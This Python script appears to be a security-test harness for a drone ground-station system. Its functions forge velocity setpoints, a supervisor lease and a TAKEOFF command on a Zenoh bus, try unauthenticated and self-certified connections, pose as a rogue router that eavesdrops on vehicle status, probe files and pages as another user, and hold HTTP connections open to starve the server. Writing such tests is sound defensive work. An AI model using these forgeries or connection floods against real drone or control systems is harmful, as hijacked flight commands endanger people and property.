"""A program outside the run: `stranger.py ATTACK ARGUMENT...`; prints what it received, as JSON.

It uses Zenoh and HTTP directly, with nothing of ours.
"""

import contextlib
import encodings.idna  # noqa: F401 - another user may not read the interpreter's files later
import json
import os
import socket
import sys
import time
from collections.abc import Callable
from pathlib import Path

import zenoh


def session(mode: str, endpoint: str, folder: str = "", name: str = "") -> zenoh.Session:
    """Open a session to an endpoint, with certificates where there are some."""
    link = {}
    if folder:
        link = {
            "tls": {
                "root_ca_certificate": f"{folder}/authority.pem",
                "connect_certificate": f"{folder}/{name}.pem",
                "connect_private_key": f"{folder}/{name}.key",
                "enable_mtls": True,
            }
        }
    config = {
        "mode": mode,
        "connect": {"endpoints": [endpoint], "timeout_ms": 1500, "exit_on_failure": True},
        "scouting": {"multicast": {"enabled": False}},
        "transport": {"link": link},
    }
    return zenoh.open(zenoh.Config.from_json5(json.dumps(config)))


def forgeries(site: str, epoch: int) -> dict[str, bytes]:
    """Return messages that would take over drones: setpoints and a lease in others' names, and a take-off."""
    now = time.clock_gettime_ns(time.CLOCK_BOOTTIME)
    boot = Path("/proc/sys/kernel/random/boot_id").read_text()[:8]
    forged: dict[str, dict[str, object]] = {}
    for drone in ("drone_1", "drone_2"):
        forged[f"{drone}/setpoint/tracker"] = {
            "header": {"stamp_ns": now, "clock": boot, "entity": drone, "source": "tracker", "seq": 2**40},
            "velocity_m_s": [0.6, 0.0, 0.0],
            "yaw_rate_rad_s": 0.0,
            "lifetime_ms": 300,
            "epoch": epoch,
        }
    header = {"stamp_ns": now, "clock": boot, "entity": "team", "source": "supervisor", "seq": 2**40}
    forged["team/lease/supervisor"] = {"header": header, "holder": "operator", "expires_ns": now + 10**10}
    forged["team/command/supervisor"] = {
        "header": header,
        "id": f"forged-{now}",
        "verb": "TAKEOFF",
        "scope": [],
        "issuer": "operator",
        "expires_ns": now + 10**10,
    }
    return {f"gs/@v1/{site}/{key}": json.dumps(value).encode() for key, value in forged.items()}


def put_forgeries(opened: zenoh.Session, site: str, seconds: float) -> None:
    """Publish all forgeries 50 times a second, with an epoch just ahead and one far ahead in turn."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for epoch in (5000, 10**15):
            for key, payload in forgeries(site, epoch).items():
                opened.put(key, payload)
        time.sleep(0.02)


def bus(endpoint: str, site: str, folder: str) -> dict[str, str]:
    """Try every way onto the bus that needs no certificate of the run; returns the result of each."""
    plain = endpoint.replace("tls/", "tcp/")
    ways = {
        "plain": (plain, "", ""),
        "no certificate": (endpoint, "", ""),
        "own authority": (endpoint, folder, "tracker"),
    }
    got = {}
    for name, way in ways.items():
        for mode in ("client", "peer"):
            try:
                with session(mode, *way) as opened:
                    put_forgeries(opened, site, 1.0)
                    got[f"{name} as {mode}"] = "in"
            except zenoh.ZError:
                got[f"{name} as {mode}"] = "refused"
    return got


def neighbour(port: str, site: str, stop: str) -> dict[str, int]:
    """Act as a router such as ROS 2's, on every address, with a node that talks and forges, and one that reads all."""
    listen = {
        "mode": "router",
        "listen": {"endpoints": [f"tcp/[::]:{port}"], "exit_on_failure": True},
        "scouting": {"multicast": {"enabled": False}},
    }
    with zenoh.open(zenoh.Config.from_json5(json.dumps(listen))):
        print("listening", flush=True)
        node, other = (session("client", f"tcp/127.0.0.1:{port}") for _ in range(2))
        own: list[object] = []
        other.declare_subscriber("0/chatter/**", own.append)
        foreign: list[object] = []
        other.declare_subscriber(f"gs/@v1/{site}/*/vehicle_status/*", foreign.append)
        time.sleep(0.5)
        said = 0
        while not Path(stop).exists():
            node.put("0/chatter/String", b"hello")
            said += 1
            put_forgeries(node, site, 0.5)
        time.sleep(0.5)
        node.close()
        other.close()
    return {"said": said, "heard": len(own), "of the run": len(foreign)}


def status_of(console: str, path: str) -> tuple[int, int]:
    """Request a page; returns the status of the answer and its length."""
    host, _, port = console.removeprefix("http://").strip("/").partition(":")
    with socket.create_connection((host, int(port)), timeout=5) as asking:
        asking.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n".encode())
        answer = b"".join(iter(lambda: asking.recv(65536), b""))
    return int(answer.split()[1]), len(answer)


def other_user(uid: str, console: str, endpoint: str, *paths: str) -> dict[str, object]:
    """Change to another user, and read, request and join."""
    os.setgroups([])
    os.setgid(int(uid))
    os.setuid(int(uid))
    got: dict[str, object] = {}
    for path in paths:
        try:
            os.close(os.open(path, os.O_RDONLY))
            got[path] = "open"
        except OSError as error:
            got[path] = type(error).__name__
    for page in ("/", "/token", "/?code=guess"):
        got[page] = status_of(console, page)[0]
    for address in (endpoint, endpoint.replace("tls/", "tcp/")):
        try:
            session("client", address).close()
            got[address] = "in"
        except zenoh.ZError:
            got[address] = "refused"
    return got


def silence(console: str, count: str) -> dict[str, object]:
    """Hold connections without a request; returns a page's results meanwhile."""
    host, _, port = console.removeprefix("http://").strip("/").partition(":")
    held = [socket.create_connection((host, int(port)), timeout=5) for _ in range(int(count))]
    for number, one in enumerate(held):
        with contextlib.suppress(OSError):
            one.sendall(b"GET / HTTP/1.1\r\nHost: " if number % 2 else b"")
    status, size = status_of(console, "/")
    return {"status": status, "bytes": size}


if __name__ == "__main__":
    attacks: tuple[Callable[..., object], ...] = (bus, neighbour, other_user, silence)
    print(json.dumps({attack.__name__: attack for attack in attacks}[sys.argv[1]](*sys.argv[2:])))
